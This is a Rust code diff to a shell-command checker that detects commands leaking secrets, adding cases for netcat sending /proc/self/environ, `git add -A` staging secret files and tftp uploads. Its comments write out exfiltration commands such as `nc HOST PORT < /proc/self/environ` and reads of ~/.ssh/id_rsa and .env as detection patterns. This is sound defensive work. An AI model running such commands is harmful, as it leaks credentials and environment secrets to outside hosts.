@@ -453,6 +453,17 @@ pub(crate) fn check(ctx: &mut Ctx, i: usize) {
                 kind,
             ));
         }
+        // `nc HOST PORT < /proc/self/environ`: the environment sent.
+        if net
+            && let Input::File(w) = s
+            && paths::is_own_environ(&w.text)
+        {
+            found.push((
+                Role::Send,
+                w.text.clone(),
+                "every environment variable, secrets included".to_string(),
+            ));
+        }
     }
     // `cat <&3 3< ~/.ssh/id_rsa`, `exec 3< .env`: another descriptor opened
     // on a secret is read as surely as standard input.
@@ -1076,7 +1087,16 @@ fn git_stored_paths(ctx: &Ctx, c: &Command) -> Vec<(Role, String, String)> {
                 .iter()
                 .position(|a| a.text == "add")
                 .map_or(0, |k| k + 1);
-            for w in args[at..].iter().filter(|w| !is_flag(w)) {
+            // `add -A`, `add --all`: the whole work tree.
+            let all = args[at..]
+                .iter()
+                .any(|a| matches!(a.text.as_str(), "-A" | "--all"));
+            let whole = all.then(|| Word::literal("."));
+            for w in args[at..]
+                .iter()
+                .filter(|w| !is_flag(w))
+                .chain(whole.as_ref())
+            {
                 let p = format!("{}/{}", tree.trim_end_matches('/'), w.text);
                 if let Some(kind) = ctx.secret_kind(&p) {
                     out.push((Role::Copy, p, kind));
@@ -1400,12 +1420,16 @@ fn sent_paths(ctx: &Ctx, i: usize) -> Vec<(Role, String, String)> {
     ) {
         let mut script: Vec<String> = super::written::input_text(ctx, c).into_iter().collect();
         script.extend(flag_values_text(c, &["-c", "-e"], &[]));
-        // `tftp HOST -c put FILE`: the rest of the line is its command.
-        if name == "tftp"
-            && let Some(k) = c.args().iter().position(|a| a.text == "-c")
-        {
-            let rest: Vec<&str> = c.args()[k + 1..].iter().map(|w| w.text.as_str()).collect();
-            script.push(rest.join(" "));
+        // `tftp HOST -c put FILE`: the rest of the line is its command;
+        // busybox's and atftp's `tftp -p -l FILE HOST` put FILE.
+        if name == "tftp" {
+            if let Some(k) = c.args().iter().position(|a| a.text == "-c") {
+                let rest: Vec<&str> = c.args()[k + 1..].iter().map(|w| w.text.as_str()).collect();
+                script.push(rest.join(" "));
+            }
+            if c.args().iter().any(|a| a.text == "-p" || a.text == "--put") {
+                candidates.extend(flag_values_text(c, &["-l"], &["local-file"]));
+            }
         }
         for line in script.iter().flat_map(|s| s.split(['\n', ';'])) {
             let words: Vec<&str> = line
